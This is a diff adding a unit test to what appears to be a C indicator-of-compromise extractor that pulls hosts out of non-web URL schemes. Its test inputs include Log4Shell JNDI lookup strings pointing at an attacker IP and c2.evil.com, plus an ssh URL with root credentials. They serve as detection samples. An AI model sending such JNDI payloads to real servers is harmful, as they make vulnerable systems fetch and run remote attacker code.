@@ -219,6 +219,25 @@ test_keyed_values(void **state)
 	    "domain evil.com public\n");
 }
 
+/* A host behind a scheme that is no web URL is an indicator all the
+ * same: a Log4Shell probe's callback, a share, a key server. */
+static void
+test_other_schemes(void **state)
+{
+	(void)state;
+	expect("${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/x}",
+	    "ipv4 45.155.205.233 public\n");
+	expect("${jndi:rmi://c2.evil.com:1099/o} ldap://[2001:db8::5]:389/",
+	    "domain c2.evil.com public\nipv6 2001:db8::5 documentation\n");
+	/* the user and password are no address */
+	expect("ssh://root:toor@203.0.113.77:22 imap://u%40a.org@mx.b.org/",
+	    "ipv4 203.0.113.77 documentation\ndomain mx.b.org public\n");
+	/* a web URL that try_url did not take gives no host either; a
+	 * scheme with other characters than letters is not stepped over */
+	expect("http://evil.co=\nm/x android-app://com.example.app/x "
+	    "file:///etc/hosts", "");
+}
+
 static void
 test_context_makes_hosts(void **state)
 {
@@ -489,6 +508,7 @@ main(void)
 		cmocka_unit_test(test_idn),
 		cmocka_unit_test(test_no_invention),
 		cmocka_unit_test(test_keyed_values),
+		cmocka_unit_test(test_other_schemes),
 		cmocka_unit_test(test_context_makes_hosts),
 		cmocka_unit_test(test_offsets_and_stop),
 		cmocka_unit_test(test_allowlist),
